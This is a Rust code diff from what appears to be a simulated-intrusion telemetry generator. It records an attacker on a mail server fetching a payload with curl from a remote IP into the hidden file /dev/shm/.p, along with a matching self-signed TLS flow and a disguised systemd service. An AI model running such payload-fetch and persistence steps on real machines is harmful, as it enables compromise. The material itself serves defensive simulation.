@@ -7,10 +7,12 @@ use super::super::chronicle::Chronicle;
 use super::super::clock::{after, minutes};
 use super::super::linux::Shell;
 use super::super::network::{MX01, SVC_PORTAL, WEB01};
-use super::super::relays::IMPLANT as CONTROL;
+use super::super::relays::{IMPLANT as CONTROL, SEKOIA};
 use super::super::zeek::Traffic;
 use super::{at, device_deed};
 
+/// Where the program is fetched.
+const STORE: &str = SEKOIA[0];
 const UNIT: &str = "/etc/systemd/system/postfix-stats.service";
 const PROGRAM: &str = "/usr/lib/postfix/sbin/pstatd";
 
@@ -36,6 +38,9 @@ pub fn tell(c: &mut Chronicle) {
         let time = after(time, minutes(3));
         let fetch = ["curl", "-s", "-k", "-o", "/dev/shm/.p", "https://217.210.180.113/s/p64"];
         c.ran(time, shell, "/usr/bin/curl", &fetch, "/home/svc-portal");
+        let traffic = Traffic { service: "ssl", millis: 1_900, sent: 900, received: 412_300 };
+        let flow = c.flow(after(time, 30), MX01.address, STORE, 443, traffic);
+        c.shook_hands(&flow, STORE, "self signed certificate");
         c.ran(
             after(time, 9_000),
             shell,
